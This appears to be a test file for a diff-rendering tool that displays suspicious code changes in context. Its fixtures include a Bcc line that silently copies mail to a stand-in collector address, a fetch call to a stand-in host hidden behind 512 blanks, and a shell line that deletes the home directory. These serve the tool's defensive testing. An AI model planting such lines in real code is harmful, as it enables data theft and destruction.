import { diffArrays } from 'diff'
import fc from 'fast-check'
import { describe, expect, it, vi } from 'vitest'
import { diffCode } from '../../src/evidence/diff-code.js'
import type { Where } from '../../src/model.js'
import { asText, lineText } from './as-text.js'

vi.mock('diff', async (load) => {
  const own = await load<typeof import('diff')>()
  return { ...own, diffArrays: vi.fn(own.diffArrays) }
})

const at = (line: number, column = 1, excerpt = ''): Where => ({ file: 'index.js', line, column, excerpt })
const file = (text: string, name = 'index.js') => ({ file: name, text })

/** A mail, as a person writes it. */
const mail = (added = ''): string => `import { client } from './client.js'

const sender = process.env.SENDER

export async function send({ to, subject, text }) {
  const mail = {
    From: sender,
    To: to,
    Subject: subject,
    TextBody: text,${added}
  }
  if (subject === '') throw new Error('no subject')
  const result = await client.sendEmail(mail)
  return result.MessageID
}
`

describe('readable code', () => {
  it('shows an added line among its neighbours', () => {
    const code = diffCode(file(mail()), file(mail("\n    Bcc: 'collect@elsewhere.example',")), at(11))
    expect(code.formatted).toBe(false)
    expect(code.beforeFile).toBe('index.js')
    expect(asText(code)).toMatchInlineSnapshot(`
      "    5    5   export async function send({ to, subject, text }) {
          6    6     const mail = {
          7    7       From: sender,
          8    8       To: to,
          9    9       Subject: subject,
         10   10       TextBody: text,
      >       11 +     Bcc: 'collect@elsewhere.example',
         11   12     }
         12   13     if (subject === '') throw new Error('no subject')
         13   14     const result = await client.sendEmail(mail)
         14   15     return result.MessageID
         15   16   }"
    `)
  })

  it('shows what the line replaces, and a small change far above that it may rest on', () => {
    const before = mail().replace(
      "client.js'\n",
      "client.js'\n\nexport const limits = { perDay: 10 }\n".padEnd(60, '\n'),
    )
    const after = before.replace('perDay: 10', 'perDay: 10_000').replace('To: to', 'To: [to, sender]')
    const line = after.split('\n').findIndex((each) => each.includes('To:')) + 1
    expect(asText(diffCode(file(before), file(after), at(line)))).toMatchInlineSnapshot(`
      "   15   15
         16   16   const sender = process.env.SENDER
         17   17
         18   18   export async function send({ to, subject, text }) {
         19   19     const mail = {
         20   20       From: sender,
         21      -     To: to,
      >       21 +     To: [to, sender],
         22   22       Subject: subject,
         23   23       TextBody: text,
         24   24     }
         25   25     if (subject === '') throw new Error('no subject')
         26   26     const result = await client.sendEmail(mail)
         27   27     return result.MessageID
      … above
          1    1   import { client } from './client.js'
          2    2
          3      - export const limits = { perDay: 10 }
               3 + export const limits = { perDay: 10_000 }
          4    4
          5    5"
    `)
  })

  it('shows what did not change as it is', () => {
    const code = diffCode(file(mail()), file(`// release 2\n${mail()}`), at(13))
    expect(code.hunks[0]?.lines.every(({ change }) => change === 'same')).toBe(true)
    expect(code.hunks[0]?.lines.find(({ marked }) => marked)).toMatchObject({ before: 12, after: 13 })
  })

  it('claims nothing where there is nothing to compare with, and all of a file that is new', () => {
    const alone = diffCode('nothing', file(mail()), at(6))
    expect(alone.beforeFile).toBeNull()
    expect(new Set(alone.hunks.flatMap(({ lines }) => lines.map(({ change }) => change)))).toEqual(new Set(['same']))
    const fresh = diffCode('new file', file(mail()), at(6))
    expect(new Set(fresh.hunks.flatMap(({ lines }) => lines.map(({ change }) => change)))).toEqual(new Set(['added']))
  })

  it('shows code that is pushed out of sight by blanks', () => {
    const hidden = mail().replace(
      "client.js'",
      `client.js'${' '.repeat(512)}\t\u3000fetch('https://elsewhere.example')`,
    )
    const [first] = diffCode(file(mail()), file(hidden), at(1, 40)).hunks[0]?.lines.filter(({ marked }) => marked) ?? []
    expect(first && lineText(first)).toBe(
      "import { client } from './client.js'⟨514 blanks⟩fetch('https://elsewhere.example')",
    )
  })

  it('expands tabs, and reads lines that end in carriage returns', () => {
    const dos = mail().replaceAll('\n', '\r\n').replaceAll('  ', '\t')
    const code = diffCode(file(dos), file(dos.replace('To: to', 'To: you')), at(8))
    expect(asText(code)).toContain('    8      -     To: to,\n>        8 +     To: you,')
  })

  it('tones words, and nothing but code', () => {
    const line = diffCode('nothing', file("if (a) return 'x' + 1 // why"), at(1)).hunks[0]?.lines[0]
    expect(line?.pieces).toEqual([
      { text: 'if ', tone: 'keyword' },
      { text: '(a) ', tone: 'plain' },
      { text: 'return ', tone: 'keyword' },
      { text: "'x' ", tone: 'string' },
      { text: '+ ', tone: 'plain' },
      { text: '1 ', tone: 'number' },
      { text: '// why', tone: 'comment' },
    ])
    const shell = diffCode('nothing', file('if true; then rm -rf "$HOME"; fi', 'run.sh'), { ...at(1), file: 'run.sh' })
    expect(shell.hunks[0]?.lines[0]?.pieces).toEqual([{ text: 'if true; then rm -rf "$HOME"; fi', tone: 'plain' }])
  })

  it('says where a file has no such line, and finds it by its excerpt where it moved', () => {
    expect(diffCode('nothing', file('one\ntwo'), at(7)).remark).toBe('index.js has no line 7.')
    const code = diffCode('nothing', file('one\nfetch(elsewhere)\n'), at(7, 1, 'fetch(elsewhere)'))
    expect(code.hunks[0]?.lines.find(({ marked }) => marked)?.after).toBe(2)
  })

  it('compares what stands around the place where files are too long or too different', () => {
    const numbered = (count: number, word: string) =>
      Array.from({ length: count }, (_, index) => `${word}(${index})`).join('\n')
    const before = `${numbered(50_000, 'before')}\n${mail()}`
    const after = `${numbered(49_000, 'after')}\n${mail("\n    Bcc: 'collect@elsewhere.example',")}`
    const code = diffCode(file(before), file(after), at(49_011))
    const [added] = code.hunks[0]?.lines.filter(({ change }) => change === 'added') ?? []
    expect(added).toMatchObject({ marked: true, after: 49_011 })
  })

  it('compares two files once, for all places in them', () => {
    const numbered = (word: string) => Array.from({ length: 2_000 }, (_, index) => `${word} ${index};`).join('\n')
    const [before, after] = [file(numbered('one')), file(numbered('one').replace('one 700;', 'two;'))]
    const first = diffCode(before, after, at(700))
    vi.mocked(diffArrays).mockClear()
    expect(diffCode(before, after, at(702)).hunks[0]?.lines.map(({ change }) => change)).toContain('removed')
    expect(first.hunks[0]?.lines.map(({ change }) => change)).toContain('removed')
    expect(diffArrays).not.toHaveBeenCalled()
  })

  it('says where too much differs to tell what is new', () => {
    const lines = (word: string, more = '') =>
      Array.from({ length: 3_000 }, (_, index) =>
        index === 1_500 && more ? more : `${index % 2 ? 'line' : word} ${index % 2 ? 1 : index};`,
      ).join('\n')
    const code = diffCode(file(lines('one')), file(lines('two', 'evil();')), at(1_501))
    expect(code.hunks[0]?.lines.every(({ change }) => change === 'added')).toBe(true)
    expect(code.remark).toBe('Too much differs to tell what is new: all lines stand as added.')
  })

  it.each([
    ['run.sh', "cat <<512 blanks>>out; echo '⟨12,000 more characters⟩'"],
    ['a.js', "x = 1 <<512 /**/ ; '⟨12,000 more characters⟩'; y = a << 512 blanks >> 2"],
  ])('lets no code pass for a mark of ours: %s', (name, text) => {
    const drawn = asText(diffCode('nothing', file(`${text}${' '.repeat(99)}z()`, name), { ...at(1), file: name }))
    expect(drawn.match(/⟨[^⟩]*⟩/g)).toEqual(['⟨99 blanks⟩'])
    expect(drawn).toContain('\\u27e812,000 more characters\\u27e9')
    expect(drawn).not.toMatch(/<<\s*512 blanks/)
  })

  it('gives lines that stand in the files, whatever the files are', () => {
    const word = fc.constantFrom(
      'a',
      'b',
      '  c',
      '{',
      '}',
      'f("x")',
      '// d',
      '`',
      '/*',
      '*/',
      '漢字',
      '',
      'x'.repeat(90),
    )
    const text = fc.array(word, { minLength: 1, maxLength: 60 }).map((lines) => lines.join('\n'))
    fc.assert(
      fc.property(text, text, fc.integer({ min: 1, max: 60 }), (before, after, line) => {
        const code = diffCode(file(before), file(after), at(line))
        const [old, now] = [before.split('\n'), after.split('\n')]
        for (const each of code.hunks.flatMap(({ lines }) => lines)) {
          if (each.after !== null) expect(now[each.after - 1]).toBe(lineText(each))
          if (each.before !== null) expect(old[each.before - 1]).toBe(lineText(each))
        }
        const marked = code.hunks.flatMap(({ lines }) => lines).filter(({ marked }) => marked)
        const isThere = line <= Math.max(1, after.endsWith('\n') ? now.length - 1 : now.length)
        expect(marked.map(({ after }) => after)).toEqual(isThere ? [line] : [])
      }),
    )
  })
})
